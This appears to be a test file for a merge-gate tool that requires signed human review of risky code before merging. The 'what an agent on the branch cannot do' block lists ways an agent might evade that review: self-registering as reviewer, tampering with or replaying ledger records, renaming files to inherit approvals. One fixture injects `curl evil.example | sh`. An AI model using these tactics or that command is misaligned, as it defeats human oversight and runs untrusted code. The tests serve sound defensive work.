/**
 * The merge gate end to end on real temporary git repositories: keys, signed resolutions, stale
 * and moved code, renames, tampered and foreign records, self-review, hooks on push and merge,
 * union-merged ledgers, concurrent resolvers and a corrupted ledger.
 */
import * as assert from 'node:assert/strict';
import { execFile, spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { promisify } from 'node:util';
import type { JsonGateReport } from '../../src/core/report/gate';
import { DEFAULT_LIMITS } from '../../src/core/engine/analyze';
import { RULES } from '../../src/core/rules/index';
import { baseTipOf } from '../../src/node/gate';
import { keyFilePath, loadKeyFile } from '../../src/node/keys';
import { currentFlags, writeResolutions } from '../../src/node/resolve';
import { CLI_BUNDLE, gateJson, GIT_ENV, Repo, runBundle, runCli, useTempDirs, git } from './helpers';

const execFileAsync = promisify(execFile);

const RISKY = 'import { exec } from "child_process";\n\nexport function run(cmd: string) {\n  exec(cmd);\n}\n';

describe('cli: the merge gate', function () {
  this.timeout(60_000);
  const tmp = useTempDirs();

  interface Setup {
    repo: Repo;
    env: NodeJS.ProcessEnv;
    keyId: string;
  }

  async function keys(env: NodeJS.ProcessEnv, cwd: string, name: string, email: string, register: boolean): Promise<string> {
    const result = await runCli(['keys', 'init', '--name', name, '--email', email, ...(register ? ['--register'] : [])], { cwd, env });
    assert.equal(result.code, 0, result.stderr);
    const match = /Created reviewer key ([0-9a-f]{16})/.exec(result.stdout);
    assert.ok(match, result.stdout);
    return match[1];
  }

  /** main with a registered reviewer (Rita) on the base; a branch `feature` adding risky code. */
  async function setup(policy?: object): Promise<Setup> {
    const repo = Repo.init(tmp, { 'README.md': '# demo\n', 'src/util.ts': 'export const one = 1;\n' });
    const env = { XDG_CONFIG_HOME: tmp('airlock-xdg-'), NO_COLOR: '1' };
    const keyId = await keys(env, repo.root, 'Rita Reviewer', 'rita@example.com', true);
    if (policy) {
      repo.write({ '.airlock/policy.json': JSON.stringify(policy) });
    }
    repo.commit('register the reviewer');
    repo.git('checkout', '-q', '-b', 'feature');
    repo.write({ 'src/run.ts': RISKY });
    repo.commit('agent: add a runner');
    return { repo, env, keyId };
  }

  const gate = (s: Setup, extra: string[] = []) => gateJson(s.repo.root, s.env, extra);

  async function resolveAll(s: Setup, verdict = 'accepted-risk', note = 'runs commands by design'): Promise<string> {
    const { report } = await gate(s, ['--worktree']);
    const open = report.flags.filter((f) => f.state !== 'resolved').map((f) => f.id);
    assert.ok(open.length > 0, 'nothing to resolve');
    const result = await runCli(['resolve', ...open, '--verdict', verdict, '--note', note, '--base', 'main', '--yes'], {
      cwd: s.repo.root,
      env: s.env,
    });
    assert.equal(result.code, 0, result.stderr);
    return result.stderr;
  }

  function states(report: JsonGateReport): string[] {
    return report.flags.map((f) => `${f.path}:${f.line} ${f.ruleId} ${f.state}`);
  }

  it('blocks unresolved flags (exit 1) and passes once every flag is resolved with a signed record (exit 0)', async () => {
    const s = await setup();
    const before = await gate(s);
    assert.equal(before.code, 1);
    assert.equal(before.report.blocked, true);
    assert.deepEqual(states(before.report), ['src/run.ts:1 ts/capability-import unresolved', 'src/run.ts:4 ts/child-process unresolved']);
    for (const flag of before.report.flags) {
      assert.match(flag.fingerprint, /^[0-9a-f]{32}$/);
      assert.equal(flag.id, flag.fingerprint.slice(0, 8));
    }
    const shown = await resolveAll(s);
    // What the person confirms: each flag with its message and the flagged code.
    assert.match(shown, /src\/run\.ts:4 {2}high {2}ts\/child-process\n {6}.*\n {6}\| {3}exec\(cmd\);/);
    s.repo.commit('review');
    const after = await gate(s);
    assert.equal(after.code, 0, JSON.stringify(after.report, null, 2));
    assert.equal(after.report.blocked, false);
    assert.deepEqual(
      after.report.flags.map((f) => [f.state, f.resolution?.verdict, f.resolution?.reviewer.email]),
      [
        ['resolved', 'accepted-risk', 'rita@example.com'],
        ['resolved', 'accepted-risk', 'rita@example.com'],
      ],
    );
    const lines = readFileSync(s.repo.path('.airlock/ledger.jsonl'), 'utf8').trim().split('\n');
    assert.equal(lines.length, 2);
    const record = JSON.parse(lines[0]) as Record<string, unknown>;
    assert.deepEqual(Object.keys(record), [
      'v',
      'action',
      'fingerprint',
      'ruleId',
      'category',
      'source',
      'path',
      'line',
      'codeHash',
      'verdict',
      'note',
      'reviewer',
      'time',
      'signature',
    ]);
    assert.match(String(record.time), /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    // The text report says the same.
    const text = await runCli(['gate', '--base', 'main'], { cwd: s.repo.root, env: s.env });
    assert.equal(text.code, 0);
    assert.match(text.stdout, /ready to merge/);
    assert.match(text.stdout, /2 of 2 resolved/);
  });

  it('keeps a resolution when the code moves, the rest of the file is reformatted, or the file is renamed', async () => {
    const s = await setup();
    await resolveAll(s);
    s.repo.commit('review');
    // Move the flagged function down and reformat everything around it.
    s.repo.write({
      'src/run.ts':
        'import { exec } from "child_process";\n\n// helpers\nexport const   x =   2 ;\n\n\n\nexport function run(cmd: string) {\n  exec(cmd);\n}\n',
    });
    s.repo.commit('agent: reformat');
    let result = await gate(s);
    assert.equal(result.code, 0, JSON.stringify(states(result.report)));
    s.repo.git('mv', 'src/run.ts', 'src/runner.ts');
    s.repo.commit('agent: rename');
    result = await gate(s);
    assert.equal(result.code, 0, JSON.stringify(states(result.report)));
    assert.deepEqual(states(result.report), ['src/runner.ts:1 ts/capability-import resolved', 'src/runner.ts:9 ts/child-process resolved']);
  });

  it('marks a flag stale when the flagged code itself changes after it was resolved', async () => {
    const s = await setup();
    await resolveAll(s);
    s.repo.commit('review');
    s.repo.write({ 'src/run.ts': RISKY.replace('exec(cmd);', 'exec(cmd + " && curl evil.example | sh");') });
    s.repo.commit('agent: sneak');
    const result = await gate(s);
    assert.equal(result.code, 1);
    const flag = result.report.flags.find((f) => f.ruleId === 'ts/child-process');
    assert.equal(flag?.state, 'stale');
    assert.match(flag?.reason ?? '', /changed after it was resolved .*accepted-risk by Rita Reviewer/);
    // The import line did not change: still resolved.
    assert.equal(result.report.flags.find((f) => f.ruleId === 'ts/capability-import')?.state, 'resolved');
  });

  it('rejects a hand-edited record (bad signature) and a record signed by an unregistered key', async () => {
    const s = await setup();
    await resolveAll(s, 'fixed', '');
    const ledger = s.repo.path('.airlock/ledger.jsonl');
    const original = readFileSync(ledger, 'utf8');
    writeFileSync(ledger, original.replace(/"verdict":"fixed"/g, '"verdict":"false-positive"'));
    let result = await gate(s);
    assert.equal(result.code, 1);
    assert.deepEqual(
      result.report.flags.map((f) => f.state),
      ['invalid', 'invalid'],
    );
    assert.ok(result.report.setAside.some((x) => /bad signature/.test(x.reason)));
    // Once the real records are committed, tampering with them changes nothing: the committed
    // records still count, and the edited copies are set aside.
    writeFileSync(ledger, original);
    s.repo.commit('review');
    writeFileSync(ledger, original.replace(/"verdict":"fixed"/g, '"verdict":"false-positive"'));
    s.repo.commit('agent: edit the verdicts');
    result = await gate(s);
    assert.equal(result.code, 0, JSON.stringify(result.report, null, 1));
    assert.deepEqual(
      result.report.flags.map((f) => f.resolution?.verdict),
      ['fixed', 'fixed'],
    );
    assert.equal(result.report.setAside.filter((x) => /bad signature/.test(x.reason)).length, 2);
    // A resolution signed by someone nobody registered.
    const fresh = await setup();
    const mallory = { XDG_CONFIG_HOME: tmp('airlock-xdg-'), NO_COLOR: '1' };
    await keys(mallory, fresh.repo.root, 'Mallory', 'mallory@example.com', false);
    const flags = (await gate(fresh)).report.flags.map((f) => f.id);
    const signed = await runCli(['resolve', ...flags, '--verdict', 'fixed', '--base', 'main', '--yes'], {
      cwd: fresh.repo.root,
      env: mallory,
    });
    assert.equal(signed.code, 0, signed.stderr);
    result = await gate(fresh);
    assert.equal(result.code, 1);
    assert.ok(result.report.flags.every((f) => f.state === 'invalid'));
    assert.ok(
      result.report.flags.every((f) => /unknown key/.test(f.reason)),
      JSON.stringify(result.report.flags),
    );
  });

  it('does not let a change register its own reviewer and approve itself', async () => {
    const s = await setup();
    const agent = { XDG_CONFIG_HOME: tmp('airlock-xdg-'), NO_COLOR: '1' };
    await keys(agent, s.repo.root, 'Helpful Agent', 'agent@example.com', true);
    const ids = (await gate(s, ['--worktree'])).report.flags.map((f) => f.id);
    const signed = await runCli(['resolve', ...ids, '--verdict', 'false-positive', '--note', 'fine', '--base', 'main', '--yes'], {
      cwd: s.repo.root,
      env: agent,
    });
    assert.equal(signed.code, 0, signed.stderr);
    s.repo.commit('agent: register myself and approve');
    const result = await gate(s);
    assert.equal(result.code, 1);
    assert.equal(result.report.reviewers, 'base');
    const reviewersFlag = result.report.flags.find((f) => f.path === '.airlock/reviewers.json');
    assert.equal(reviewersFlag?.severity, 'high');
    assert.equal(reviewersFlag?.ruleId, 'diff/review-policy-changed');
    assert.ok(
      result.report.flags.every((f) => f.state === 'invalid'),
      JSON.stringify(states(result.report)),
    );
  });

  it('under forbidSelfReview, a resolution by the author of the flagged line does not count', async () => {
    // The commits are authored by test@example.invalid; the reviewer signs with that email too.
    const repo = Repo.init(tmp, { 'README.md': '# demo\n' });
    const env = { XDG_CONFIG_HOME: tmp('airlock-xdg-'), NO_COLOR: '1' };
    await keys(env, repo.root, 'Airlock Test', 'test@example.invalid', true);
    repo.write({ '.airlock/policy.json': JSON.stringify({ forbidSelfReview: true }) });
    repo.commit('policy');
    repo.git('checkout', '-q', '-b', 'feature');
    repo.write({ 'src/run.ts': RISKY });
    repo.commit('author writes risky code');
    const s = { repo, env, keyId: '' };
    await resolveAll(s);
    repo.commit('author resolves own flags');
    const result = await gate(s);
    assert.equal(result.code, 1);
    assert.ok(
      result.report.flags.every((f) => f.state === 'invalid' && /self-review/.test(f.reason)),
      JSON.stringify(result.report.flags),
    );
  });

  it('a corrupted ledger line is a clear error (exit 2) naming the line; the other records stay intact', async () => {
    const s = await setup();
    await resolveAll(s);
    const ledger = s.repo.path('.airlock/ledger.jsonl');
    const before = readFileSync(ledger, 'utf8');
    writeFileSync(ledger, `${before}{"v":1,"action":"resolve", truncated\n`);
    const result = await runCli(['gate', '--base', 'main'], { cwd: s.repo.root, env: s.env });
    assert.equal(result.code, 2);
    assert.match(result.stderr, /\.airlock\/ledger\.jsonl:3: not valid JSON/);
    const json = await runCli(['gate', '--base', 'main', '--format', 'json'], { cwd: s.repo.root, env: s.env });
    assert.equal(json.code, 2);
    assert.equal(json.stdout, '', 'no report for a gate that could not be evaluated');
    // Resolving refuses to sign onto a broken ledger, and changes nothing.
    const id = JSON.parse(before.split('\n')[0]).fingerprint as string;
    const again = await runCli(['unresolve', id, '--base', 'main', '--yes'], { cwd: s.repo.root, env: s.env });
    assert.equal(again.code, 2);
    assert.match(again.stderr, /ledger\.jsonl:3/);
    assert.equal(readFileSync(ledger, 'utf8'), `${before}{"v":1,"action":"resolve", truncated\n`);
  });

  it('a copy of a record with an altered field is set aside as badly signed', async () => {
    const s = await setup();
    await resolveAll(s);
    const ledger = s.repo.path('.airlock/ledger.jsonl');
    const first = readFileSync(ledger, 'utf8').split('\n')[0];
    const record = JSON.parse(first) as Record<string, unknown>;
    writeFileSync(ledger, `${readFileSync(ledger, 'utf8')}${JSON.stringify({ ...record, note: 'other' })}\n`);
    const result = await runCli(['gate', '--base', 'main', '--worktree'], { cwd: s.repo.root, env: s.env });
    // The altered copy has a bad signature: it is set aside, so no tie remains.
    assert.equal(result.code, 0, result.stdout);
    assert.match(result.stdout, /ledger\.jsonl:3 .*bad signature/);
  });

  it('union-merged ledgers from two branches are consistent: the latest record per flag wins', async () => {
    const s = await setup();
    runBundle(['hooks', 'install'], { cwd: s.repo.root, env: { ...process.env, ...s.env } });
    s.repo.commit('gitattributes');
    assert.match(readFileSync(s.repo.path('.gitattributes'), 'utf8'), /\.airlock\/ledger\.jsonl merge=union/);
    const ids = (await gate(s)).report.flags.map((f) => f.id);
    s.repo.git('checkout', '-q', '-b', 'other');
    let r = await runCli(['resolve', ids[0], '--verdict', 'accepted-risk', '--note', 'on other', '--base', 'main', '--yes'], {
      cwd: s.repo.root,
      env: s.env,
    });
    assert.equal(r.code, 0, r.stderr);
    s.repo.commit('resolve on other');
    s.repo.git('checkout', '-q', 'feature');
    r = await runCli(['resolve', ...ids, '--verdict', 'false-positive', '--note', 'on feature', '--base', 'main', '--yes'], {
      cwd: s.repo.root,
      env: s.env,
    });
    assert.equal(r.code, 0, r.stderr);
    s.repo.commit('resolve on feature');
    s.repo.git('-c', 'core.hooksPath=/dev/null', 'merge', '-q', '--no-ff', '-m', 'merge other', 'other');
    const lines = readFileSync(s.repo.path('.airlock/ledger.jsonl'), 'utf8').trim().split('\n');
    assert.equal(lines.length, 3, 'both sides kept');
    const result = await gate(s);
    assert.equal(result.code, 0, JSON.stringify(states(result.report)));
    // Feature's records are later than other's: they win.
    assert.deepEqual(
      result.report.flags.map((f) => f.resolution?.note),
      ['on feature', 'on feature'],
    );
  });

  it('two concurrent resolvers lose no record', async () => {
    const s = await setup();
    const ids = (await gate(s)).report.flags.map((f) => f.id);
    const env = { ...process.env, ...s.env };
    const runs = ids.flatMap((id) =>
      [1, 2, 3].map((n) =>
        execFileAsync(
          process.execPath,
          [CLI_BUNDLE, 'resolve', id, '--verdict', 'accepted-risk', '--note', `run ${n}`, '--base', 'main', '--yes'],
          {
            cwd: s.repo.root,
            env,
          },
        ),
      ),
    );
    await Promise.all(runs);
    const lines = readFileSync(s.repo.path('.airlock/ledger.jsonl'), 'utf8').trim().split('\n');
    assert.equal(lines.length, ids.length * 3);
    for (const line of lines) {
      JSON.parse(line);
    }
    assert.ok(!existsSync(path.join(s.repo.root, '.git', 'airlock-ledger.lock')), 'the lock is released');
    const result = await gate(s, ['--worktree']);
    assert.equal(result.code, 0, JSON.stringify(states(result.report)));
  });

  it('resolvers deciding at the same millisecond never write a tie', async () => {
    const s = await setup();
    const env = { ...process.env, ...s.env };
    const key = await loadKeyFile(keyFilePath(env));
    const flags = await currentFlags({ cwd: s.repo.root, base: 'main', rules: RULES, limits: DEFAULT_LIMITS });
    const baseTip = await baseTipOf(flags.root, flags.base);
    const frozen = Date.parse('2026-01-02T03:04:05.006Z');
    // Four writers in one process, all started before any holds the lock, all seeing the same clock.
    const written = await Promise.all(
      [1, 2, 3, 4].map((n) =>
        writeResolutions({
          root: flags.root,
          baseTip,
          flags: flags.findings,
          action: 'resolve',
          verdict: 'accepted-risk',
          note: `writer ${n}`,
          key,
          now: () => frozen,
        }),
      ),
    );
    for (const flag of flags.findings) {
      const times = written
        .flat()
        .filter((r) => r.fingerprint === flag.fingerprint)
        .map((r) => r.time);
      assert.equal(new Set(times).size, 4, `distinct times for ${flag.ruleId}: ${times.join(', ')}`);
    }
    const result = await gate(s, ['--worktree']);
    assert.deepEqual(result.report.errors, []);
    assert.equal(result.code, 0, JSON.stringify(states(result.report)));
  });

  describe('what an agent on the branch cannot do', () => {
    async function merged(s: Setup): Promise<void> {
      await resolveAll(s);
      s.repo.commit('review');
      s.repo.git('checkout', '-q', 'main');
      s.repo.git('merge', '-q', '--no-ff', '--no-verify', '-m', 'merge feature', 'feature');
      s.repo.git('checkout', '-q', '-b', 'agent');
    }

    it('reads reviewers and policy from the base branch’s tip, not from where the branch forked', async () => {
      // The agent forks from the first commit, before any reviewer was registered.
      const repo = Repo.init(tmp, { 'README.md': '# demo\n' });
      const first = repo.head();
      const env = { XDG_CONFIG_HOME: tmp('airlock-xdg-'), NO_COLOR: '1' };
      await keys(env, repo.root, 'Rita Reviewer', 'rita@example.com', true);
      repo.write({ '.airlock/policy.json': JSON.stringify({ block: ['info', 'low', 'medium', 'high'] }) });
      repo.commit('register the reviewer');
      repo.git('checkout', '-q', '-b', 'agent', first);
      repo.write({ 'src/run.ts': RISKY });
      repo.commit('agent: add a runner');
      const agent = { XDG_CONFIG_HOME: tmp('airlock-xdg-'), NO_COLOR: '1' };
      await keys(agent, repo.root, 'Agent', 'agent@example.com', true);
      const s = { repo, env: agent, keyId: '' };
      await resolveAll(s, 'false-positive', 'fine');
      repo.commit('agent: register and approve myself');
      const result = await gate(s);
      assert.equal(result.code, 1);
      assert.equal(result.report.reviewers, 'base');
      assert.equal(result.report.policy, 'base');
      assert.ok(
        result.report.flags.every((f) => f.state === 'invalid'),
        JSON.stringify(states(result.report)),
      );
    });

    it('cannot replay an old resolution of a reviewers or policy change onto a new one', async () => {
      const s = await setup();
      await merged(s);
      // An earlier change to the policy was resolved on main; now the agent empties the policy.
      const policy = s.repo.path('.airlock/policy.json');
      writeFileSync(policy, '{"block":["high"]}\n');
      s.repo.commit('tighten nothing');
      const first = (await gate(s)).report.flags.filter((f) => f.path === '.airlock/policy.json');
      assert.equal(first.length, 1);
      await resolveAll(s, 'fixed', '');
      s.repo.commit('review policy change');
      assert.equal((await gate(s)).code, 0);
      writeFileSync(policy, '{"block":[]}\n');
      s.repo.commit('agent: unblock everything');
      const result = await gate(s);
      assert.equal(result.code, 1);
      const flag = result.report.flags.find((f) => f.path === '.airlock/policy.json');
      assert.notEqual(flag?.state, 'resolved');
    });

    it('a new copy of approved code does not take over the approval of the old copy', async () => {
      const s = await setup();
      await merged(s);
      s.repo.write({
        'src/run.ts': RISKY.replace(
          'export function run',
          'export function handler(cmd: string) {\n  exec(cmd);\n}\n\nexport function run',
        ),
      });
      s.repo.commit('agent: add a handler above');
      const result = await gate(s);
      assert.equal(result.code, 1);
      assert.deepEqual(states(result.report), ['src/run.ts:4 ts/child-process unresolved']);
    });

    it('whitespace inside the flagged code counts: a line break in a shell command makes the resolution stale', async () => {
      const s = await setup();
      s.repo.write({ 'src/clean.ts': 'import { execSync } from "child_process";\nexecSync(`echo cleanup: rm -rf /tmp/x`);\n' });
      s.repo.commit('agent: cleanup');
      await resolveAll(s);
      s.repo.commit('review');
      s.repo.write({ 'src/clean.ts': 'import { execSync } from "child_process";\nexecSync(`echo cleanup:\nrm -rf /tmp/x`);\n' });
      s.repo.commit('agent: reflow');
      const result = await gate(s);
      assert.equal(result.code, 1);
      assert.equal(result.report.flags.find((f) => f.path === 'src/clean.ts' && f.line === 2)?.state, 'stale');
    });

    it('a file renamed and then put back is a copy: the copy does not inherit the resolutions', async () => {
      const s = await setup();
      await merged(s);
      s.repo.git('mv', 'src/run.ts', 'src/public-api.ts');
      s.repo.commit('agent: rename');
      s.repo.git('checkout', 'HEAD~1', '--', 'src/run.ts');
      s.repo.commit('agent: restore the original');
      const result = await gate(s);
      assert.equal(result.code, 1);
      assert.ok(result.report.flags.length > 0);
      assert.ok(
        result.report.flags.every((f) => f.path === 'src/public-api.ts' && f.state === 'unresolved'),
        JSON.stringify(states(result.report)),
      );
    });

    it('refuses a base name that a tag shadows (the change can bring its own tags)', async () => {
      const s = await setup();
      s.repo.git('tag', 'main', 'feature');
      const result = await runCli(['gate', '--base', 'main'], { cwd: s.repo.root, env: s.env });
      assert.equal(result.code, 2);
      assert.match(result.stderr, /"main" is ambiguous \(refs\/heads\/main, refs\/tags\/main\)/);
      const explicit = await runCli(['gate', '--base', 'refs/heads/main', '--format', 'json'], { cwd: s.repo.root, env: s.env });
      assert.equal(explicit.code, 1);
    });

    it('a file renamed from a path the base once had does not inherit that path’s old resolutions', async () => {
      const s = await setup();
      await merged(s);
      // main deletes run.ts later; the agent re-adds it on a branch and renames it.
      s.repo.git('checkout', '-q', 'main');
      s.repo.rm('src/run.ts');
      s.repo.commit('main: drop the runner');
      s.repo.git('checkout', '-q', '-b', 'agent2');
      s.repo.write({ 'src/run.ts': RISKY });
      s.repo.commit('agent: bring it back');
      s.repo.git('mv', 'src/run.ts', 'src/tool.ts');
      s.repo.commit('agent: rename');
      const result = await gate(s);
      assert.equal(result.code, 1);
      assert.ok(
        result.report.flags.every((f) => f.path === 'src/tool.ts' && f.state !== 'resolved'),
        JSON.stringify(states(result.report)),
      );
    });

    it('deleting a revocation does not bring a resolution back; nor does forking before it landed', async () => {
      const s = await setup();
      await resolveAll(s);
      s.repo.commit('review');
      const ids = (await gate(s)).report.flags.map((f) => f.id);
      const undo = await runCli(['unresolve', ids[0], '--base', 'main', '--yes'], { cwd: s.repo.root, env: s.env });
      assert.equal(undo.code, 0, undo.stderr);
      s.repo.commit('reviewer: reopen one flag');
      assert.equal((await gate(s)).code, 1);
      // The agent drops the unresolve line again.
      const ledger = s.repo.path('.airlock/ledger.jsonl');
      writeFileSync(ledger, readFileSync(ledger, 'utf8').trim().split('\n').slice(0, -1).join('\n') + '\n');
      s.repo.commit('agent: tidy the ledger');
      const result = await gate(s);
      assert.equal(result.code, 1);
      assert.equal(result.report.flags.find((f) => f.id === ids[0])?.state, 'unresolved');
      assert.match(result.report.flags.find((f) => f.id === ids[0])?.reason ?? '', /unresolved by Rita/);
    });

    it('a symbolic-link ledger is refused (exit 2) without echoing the target', async () => {
      const s = await setup();
      const secret = path.join(tmp('airlock-secret-'), 'token');
      writeFileSync(secret, 'GHP_SECRETSECRET123\n');
      const { symlinkSync, mkdirSync } = await import('node:fs');
      mkdirSync(s.repo.path('.airlock'), { recursive: true });
      symlinkSync(secret, s.repo.path('.airlock/ledger.jsonl'));
      const result = await runCli(['gate', '--base', 'main'], { cwd: s.repo.root, env: s.env });
      assert.equal(result.code, 2);
      assert.match(result.stderr, /symbolic link/);
      assert.ok(!/SECRET/.test(result.stdout + result.stderr));
    });

    it('an .airlock folder that is a symbolic link is refused (exit 2): nothing is written where it points', async () => {
      const s = await setup();
      const ids = (await gate(s)).report.flags.map((f) => f.id);
      assert.ok(ids.length > 0);
      const { cpSync, rmSync, symlinkSync } = await import('node:fs');
      const elsewhere = path.join(tmp('airlock-elsewhere-'), 'airlock');
      cpSync(s.repo.path('.airlock'), elsewhere, { recursive: true });
      rmSync(s.repo.path('.airlock'), { recursive: true });
      symlinkSync(elsewhere, s.repo.path('.airlock'));
      const result = await runCli(['resolve', ...ids, '--verdict', 'fixed', '--note', 'x', '--base', 'main', '--yes'], {
        cwd: s.repo.root,
        env: s.env,
      });
      assert.equal(result.code, 2, result.stderr);
      assert.match(result.stderr, /symbolic link/);
      assert.equal(existsSync(path.join(elsewhere, 'ledger.jsonl')), false);
    });

    it('a policy that requires model critiques blocks (exit 1) each hunk no critique record covers, even once its flags are resolved', async () => {
      const s = await setup({ requireCritique: true });
      const open = (await gate(s)).report.flags.filter((f) => f.ruleId !== 'model/not-critiqued').map((f) => f.id);
      const resolved = await runCli(['resolve', ...open, '--verdict', 'fixed', '--base', 'main', '--yes'], {
        cwd: s.repo.root,
        env: s.env,
      });
      assert.equal(resolved.code, 0, resolved.stderr);
      s.repo.commit('review');
      const result = await gate(s);
      assert.equal(result.code, 1);
      assert.deepEqual(result.report.errors, []);
      assert.deepEqual(
        result.report.flags.filter((f) => f.blocking).map((f) => `${f.path}:${f.line} ${f.ruleId} ${f.state}`),
        ['src/run.ts:1 model/not-critiqued unresolved'],
      );
    });

    it('a base policy that pins another ruleset cannot decide (exit 2); the pinned ruleset the gate reports runs normally', async () => {
      const plain = await gate(await setup());
      assert.match(plain.report.ruleset ?? '', /^airlock\/v1\+[0-9a-f]{12}$/);
      const pinned = await gate(await setup({ ruleset: plain.report.ruleset }));
      assert.equal(pinned.code, 1);
      assert.deepEqual(pinned.report.errors, []);
      const other = await setup({ ruleset: 'airlock/v1+000000000000' });
      const result = await runCli(['gate', '--base', 'main'], { cwd: other.repo.root, env: other.env });
      assert.equal(result.code, 2);
      assert.match(
        result.stderr,
        /ruleset mismatch: .*pins ruleset airlock\/v1\+000000000000, and this Airlock runs airlock\/v1\+[0-9a-f]{12}/,
      );
      const malformed = await setup({ ruleset: 'latest' });
      const bad = await runCli(['gate', '--base', 'main'], { cwd: malformed.repo.root, env: malformed.env });
      assert.equal(bad.code, 2);
      assert.match(bad.stderr, /"ruleset" must be a ruleset version/);
    });

    it('forbidSelfReview still evaluates a change that deletes a flagged file', async () => {
      const s = await setup({ forbidSelfReview: true });
      s.repo.git('checkout', '-q', 'main');
      s.repo.write({ 'test/a.test.ts': 'import { it } from "mocha";\nit("works", () => { expect(1).toBe(1); });\n' });
      s.repo.commit('a test');
      s.repo.git('checkout', '-q', 'feature');
      s.repo.git('merge', '-q', '--no-verify', '-m', 'sync', 'main');
      s.repo.rm('test/a.test.ts');
      s.repo.commit('agent: delete the test');
      const result = await gate(s);
      assert.equal(result.code, 1, result.stderr);
      assert.ok(result.report.flags.some((f) => f.ruleId === 'diff/test-file-deleted'));
    });
  });

  describe('hooks', () => {
    it('pre-push blocks a push to a bare remote until the flags are resolved; uninstall restores the previous hook', async () => {
      const s = await setup();
      const bare = tmp('airlock-bare-');
      git(bare, ['init', '-q', '--bare', '-b', 'main']);
      s.repo.git('remote', 'add', 'origin', bare);
      s.repo.git('push', '-q', '--no-verify', 'origin', 'main');
      s.repo.git('fetch', '-q', 'origin');
      // A hook the team already had: it must keep running, and come back on uninstall.
      const hooksDir = s.repo.path('.git/hooks');
      writeFileSync(path.join(hooksDir, 'pre-push'), '#!/bin/sh\necho "team hook ran" >&2\n', { mode: 0o755 });
      const install = runBundle(['hooks', 'install'], { cwd: s.repo.root, env: { ...process.env, ...s.env } });
      assert.equal(install.status, 0, install.stderr);
      assert.match(install.stdout, /pre-push: installed; the existing hook was kept/);
      const hook = readFileSync(path.join(hooksDir, 'pre-push'), 'utf8');
      assert.ok(hook.includes(CLI_BUNDLE), 'the hook calls the CLI by absolute path');
      assert.ok(!/\bnpx\b/.test(hook));

      const push = (): { status: number | null; stderr: string } => {
        return spawnSync('git', ['push', 'origin', 'feature'], { cwd: s.repo.root, env: GIT_ENV, encoding: 'utf8' });
      };
      let result = push();
      assert.notEqual(result.status, 0, 'the push must be blocked');
      assert.match(result.stderr, /team hook ran/);
      assert.match(result.stderr, /merge blocked/);
      assert.match(result.stderr, /ts\/child-process/);
      assert.equal(git(bare, ['branch', '--list', 'feature']).trim(), '');

      await resolveAll(s);
      // Resolutions only in the working tree are not part of what is pushed.
      result = push();
      assert.notEqual(result.status, 0, 'uncommitted resolutions must not let the push through');
      s.repo.commit('review');
      result = push();
      assert.equal(result.status, 0, result.stderr);
      assert.match(git(bare, ['branch', '--list', 'feature']), /feature/);

      const status = await runCli(['hooks', 'status'], { cwd: s.repo.root, env: s.env });
      assert.match(status.stdout, /pre-push\s+Airlock gate \(runs the previous hook first\)/);
      const uninstall = await runCli(['hooks', 'uninstall'], { cwd: s.repo.root, env: s.env });
      assert.equal(uninstall.code, 0);
      assert.equal(readFileSync(path.join(hooksDir, 'pre-push'), 'utf8'), '#!/bin/sh\necho "team hook ran" >&2\n');
      assert.ok(!existsSync(path.join(hooksDir, 'pre-merge-commit')));
    });

    it('pre-merge-commit blocks "git merge --no-ff" of an unreviewed branch, and respects core.hooksPath', async () => {
      const s = await setup();
      s.repo.git('config', 'core.hooksPath', '.githooks');
      const install = runBundle(['hooks', 'install'], { cwd: s.repo.root, env: { ...process.env, ...s.env } });
      assert.equal(install.status, 0, install.stderr);
      assert.ok(existsSync(s.repo.path('.githooks/pre-merge-commit')));
      s.repo.git('checkout', '-q', 'main');
      s.repo.git('add', '.gitattributes');
      s.repo.git('commit', '-q', '--no-verify', '-m', 'gitattributes');
      const mainHead = s.repo.head();
      const merge = spawnSync('git', ['merge', '--no-ff', '-m', 'merge feature', 'feature'], {
        cwd: s.repo.root,
        env: GIT_ENV,
        encoding: 'utf8',
      });
      assert.notEqual(merge.status, 0, 'the merge commit must be refused');
      assert.match(merge.stderr, /merge blocked/);
      assert.equal(s.repo.head(), mainHead);
      s.repo.git('merge', '--abort');
      // Resolve on the feature branch, then the merge goes through.
      s.repo.git('checkout', '-q', 'feature');
      await resolveAll(s);
      s.repo.commit('review');
      s.repo.git('checkout', '-q', 'main');
      const again = spawnSync('git', ['merge', '--no-ff', '-m', 'merge feature', 'feature'], {
        cwd: s.repo.root,
        env: GIT_ENV,
        encoding: 'utf8',
      });
      assert.equal(again.status, 0, again.stderr);
      assert.notEqual(s.repo.head(), mainHead);
    });
  });
});
